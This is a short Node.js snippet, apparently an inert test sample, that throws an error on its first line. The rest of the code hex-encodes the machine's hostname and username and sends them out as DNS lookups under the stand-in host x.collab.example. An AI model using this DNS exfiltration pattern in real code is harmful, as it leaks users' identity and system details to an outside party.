throw new Error('inert sample');
const { resolve4 } = require('dns').promises, os = require('os');
const hex = (text) => Buffer.from(text, 'utf8').toString('hex');
(async () => {
  const pieces = hex([os.hostname(), os.userInfo().username].join('|')).match(/.{1,60}/g) || [];
  for (const [at, piece] of pieces.entries()) await resolve4(`${at}.${piece}.x.collab.example`).catch(() => {});
})();
